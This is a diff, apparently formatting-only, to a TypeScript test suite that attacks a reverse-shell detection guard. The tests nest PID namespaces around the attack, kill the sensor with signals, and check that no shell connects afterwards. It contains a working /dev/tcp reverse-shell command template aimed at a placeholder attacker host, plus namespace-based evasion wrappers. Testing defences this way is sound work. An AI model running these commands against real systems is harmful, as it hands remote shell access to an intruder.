@@ -59,7 +59,8 @@ for n in range(300): subprocess.run(["/bin/true", *[b"\\xff\\xfe\\x80" * 30000] 
   {
     name: "three PID namespaces inside each other",
     meanwhile: "true",
-    around: (script) => `exec unshare -pf --mount-proc unshare -pf --mount-proc unshare -pf --mount-proc bash -c ${quoted(script)}`,
+    around: (script) =>
+      `exec unshare -pf --mount-proc unshare -pf --mount-proc unshare -pf --mount-proc bash -c ${quoted(script)}`,
     user: "root",
   },
   {
@@ -109,13 +110,16 @@ describe("blows against the guard", () => {
   async function shellsThatWereObeyed(name: string, blow?: Blow): Promise<string[]> {
     const plain = (at: { attacker: string; port: number }) =>
       `bash -c "exec sh <>/dev/tcp/${at.attacker}/${at.port} >&0 2>&1"`;
-    const attacks = Array.from({ length: SHELLS_AT_ONCE }, (_, n): HardAttack => ({
-      name: `${name} ${n}`,
-      kind: "reverse",
-      transport: "tcp",
-      ...(blow?.around === undefined ? {} : { user: "root" }),
-      script: (place) => (blow?.around ?? ((script: string) => script))(plain(place)),
-    }));
+    const attacks = Array.from(
+      { length: SHELLS_AT_ONCE },
+      (_, n): HardAttack => ({
+        name: `${name} ${n}`,
+        kind: "reverse",
+        transport: "tcp",
+        ...(blow?.around === undefined ? {} : { user: "root" }),
+        script: (place) => (blow?.around ?? ((script: string) => script))(plain(place)),
+      }),
+    );
     const outcomes = await runHard(host, attacks, { name: "blow", firstPort: port, guarded: true });
     port += SHELLS_AT_ONCE;
     const absent = outcomes.filter((outcome) => !outcome.connected);
@@ -144,10 +148,14 @@ describe("blows against the guard", () => {
     test(`SIG${signal} to the sensor: it is back, the gap is on record, no shell is obeyed afterwards`, async () => {
       const before = await state();
       await host.must(`kill -${signal} ${before.sensor.pid}`);
-      await waitUntil("another sensor", async () => {
-        const now = (await state()).sensor;
-        return now.state === "kernel" && now.pid !== before.sensor.pid && now.beat !== undefined;
-      }, 25_000);
+      await waitUntil(
+        "another sensor",
+        async () => {
+          const now = (await state()).sensor;
+          return now.state === "kernel" && now.pid !== before.sensor.pid && now.beat !== undefined;
+        },
+        25_000,
+      );
       expect((await state()).kernel.blindWindows.length).toBeGreaterThan(before.kernel.blindWindows.length);
       expect(await shellsThatWereObeyed(`after SIG${signal}`)).toEqual([]);
     });
